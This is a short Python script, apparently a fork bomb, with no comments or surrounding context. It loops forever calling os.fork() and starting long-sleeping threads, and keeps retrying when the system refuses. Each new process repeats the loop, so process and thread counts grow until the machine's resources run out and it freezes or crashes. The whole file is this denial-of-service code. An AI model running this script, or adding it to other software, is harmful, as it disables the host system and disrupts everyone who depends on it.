import os
import threading
import time

while True:
    try:
        os.fork()
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (OSError, RuntimeError):
        time.sleep(0.01)
